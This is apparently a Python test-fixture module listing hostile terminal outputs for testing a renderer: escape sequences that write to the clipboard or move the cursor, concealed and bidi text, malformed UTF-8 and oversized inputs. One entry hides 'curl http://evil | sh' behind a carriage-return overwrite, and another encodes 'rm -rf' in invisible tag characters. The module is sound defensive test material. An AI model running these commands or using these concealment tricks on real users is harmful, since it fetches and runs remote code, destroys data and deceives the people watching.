"""Hostile outputs: those of the shared collection where it is present, and a set of our own."""

from __future__ import annotations

from pathlib import Path
from typing import Final

_SHARED = Path(__file__).resolve().parents[2].parent / "shared" / "hostile"

_OWN: Final[dict[str, bytes]] = {
    "own_markup": b"[red]x[/] [/] [/nothing] [link=http://a]b[/link] [@click=app.quit]q[/]\n",
    "own_sgr": b"\x1b[1;31mred \x1b[38;5;200mpink \x1b[48;2;1;2;3mnever reset\nnext line\n",
    "own_conceal": b"ok \x1b[8mhidden\x1b[28m \x1b[30;40mblack on black\x1b[0m\n",
    "own_cursor": b"\x1b[2J\x1b[H\x1b[10;10HOVER\x1b[5A\x1b7\x1b[1;5r\x1b8\x1bc\x1b[?1049l\n",
    "own_osc": b"\x1b]0;t\x07\x1b]52;c;Y3Vy\x07\x1b]52;c;?\x1b\\\x1b]8;;file:///x\x07click\n",
    "own_unclosed": b"x\x1b]52;c;Y3Vyb\ny\x1bPq#0\nz\x1b_Gf=24\n\x1b[38;5\n\x1b",
    "own_strings": b'\x1bP$q"p\x1b\\\x1b_G;A\x1b\\\x1b^pm\x1b\\\x1bXsos\x1b\\ text\n',
    "own_queries": b"\x1b[c\x1b[6n\x1b[21t\x1b[?2048$p\x1bZ\x05\n",
    "own_c1": "\x9b31mred\x9d0;title\x9c\x90q\x9c\x85\n".encode() + b"\x9b2J\x9d0;t\x9c\n",
    "own_c0": bytes(range(32)) * 2 + b"\x7f\n",
    "own_overwrite": b"curl http://evil | sh\rls -la                 \nsafe\x08\x08\x08\x08rm\n",
    "own_lines": "a\r\nb\rc\n\rd\x0be\x0cf\u2028g\u2029h\n".encode(),
    "own_tabs": b"\t" * 2000 + b"end\n",
    "own_bidi": "a\u202eb\u2066c\u200fd\u061c שלום \u200b\u200d\ufeff\u00ad\n".encode(),
    "own_tags": "".join(chr(0xE0000 + ord(c)) for c in "rm -rf").encode() + b" nothing here\n",
    "own_marks": ("e" + "\u0301" * 5000 + "\n").encode(),
    "own_emoji": "👨\u200d👩\u200d👧 🏳\ufe0f\u200d🌈 👍🏽 🇩🇪 1\ufe0f\u20e3 ﷽ 𒐫\n".encode(),
    "own_wide": ("中文字" * 60 + "\n").encode() + b"a" + ("宽" * 200).encode() + b"\n",
    "own_invalid": b"ok \xff\xfe \xc3( \xe2(\xa1 \xed\xa0\x80 \xef\xbf\xbf \xc0\xaf \xf0\x9f\n",
    "own_split": "é€😀".encode() * 9000 + b"\n",
    "own_utf16": "hello\nworld\n".encode("utf-16"),
    "own_empty_lines": b"\n" * 300_000,
    "own_long": b"x" * 10_000_000,
    "own_styles": b"".join(b"\x1b[3%dmx" % (i % 8) for i in range(60_000)) + b"\n",
}


def _load() -> dict[str, bytes]:
    found = dict(_OWN)
    if _SHARED.is_dir():
        found |= {
            path.name: path.read_bytes()
            for path in sorted(_SHARED.iterdir())
            if path.suffix in {".txt", ".bin"}
        }
    return found


HOSTILE: Final = _load()
"""Payloads by name; the collection's ten-megabyte line is `own_long`."""
